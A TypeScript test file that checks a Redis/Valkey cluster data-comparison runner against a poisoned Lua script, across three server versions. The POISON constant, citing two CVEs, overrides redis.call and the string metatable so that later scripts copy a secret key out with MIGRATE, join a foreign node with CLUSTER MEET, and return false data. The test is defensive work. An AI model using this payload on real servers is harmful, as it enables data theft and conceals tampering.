import { createServer } from 'node:net'
import t, { type Test } from 'tap'
import { compareData } from '../../runner/cluster/data/compare-data.ts'
import { BUS_OFFSET } from '../../runner/platforms/platform.ts'
import { step } from '../support/fake-stage.ts'
import { type LiveStage, liveStage } from '../support/live-stage.ts'
import { planting } from '../support/planted-data.ts'

/**
 * Changes what scripts after it call, by each way that some version has left open (CVE-2022-24735, CVE-2025-46818):
 * they reach out to two ports, and tell lies of data.
 */
const POISON = `
local call, ports = redis.pcall, { ARGV[1], ARGV[2] }
local function evil(old)
  return function(name, ...)
    call('MIGRATE', '127.0.0.1', ports[1], 'a', '0', '200', 'COPY')
    call('CLUSTER', 'MEET', '127.0.0.1', ports[2])
    if name == 'MGET' or name == 'DUMP' or name == 'GET' then return { 'the same' } end
    return old(name, ...)
  end
end
pcall(function() redis.call = evil(redis.call) end)
pcall(function() getmetatable('').__index = evil(function() return string.len end) end)
return 'left behind'`

/** A port of this machine, and how often somebody connected to it. */
async function listener(t: Test): Promise<{ port: number; heard: () => number }> {
  let heard = 0
  const server = createServer((socket) => {
    heard += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => server.close())
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return { port: address.port, heard: () => heard }
}

async function differencesOf({ cluster }: LiveStage): Promise<string[]> {
  const { differences, incomplete } = await compareData(cluster, await cluster.look(), { withinMs: 20_000 })
  return [...differences.map(({ key, library }) => `differs: ${key ?? library}`), ...incomplete]
}

for (const server of ['redis:6.0', 'redis:7.0', 'valkey:8.1']) {
  t.test(`what a script leaves behind in a ${server} gains nothing by the runner's own`, async (t) => {
    const stage = await liveStage(t, { server })
    const [master, replica] = stage.cluster.nodes
    if (master === undefined || replica === undefined) throw new Error('no replica')
    const [migrated, bus] = [await listener(t), await listener(t)]
    await master.client.call('SET', 'a', 'secret')
    await master.client.call('WAIT', 1, 5000)
    t.strictSame(await differencesOf(stage), [])

    await (await planting(stage.cluster)).writeOnMasterAlone('SET', 'a', 'another')
    for (const { name } of [master, replica]) {
      const words = ['EVAL', POISON, '0', String(migrated.port), String(bus.port - BUS_OFFSET)]
      const poisoned = await stage.play(step('redis', words, { on: name }))
      t.match(poisoned, { verdict: 'passed' })
    }
    t.strictSame(await differencesOf(stage), ['differs: a'], 'the truth, as before')
    t.equal(migrated.heard() + bus.heard(), 0, 'nobody was connected to')
  })
}
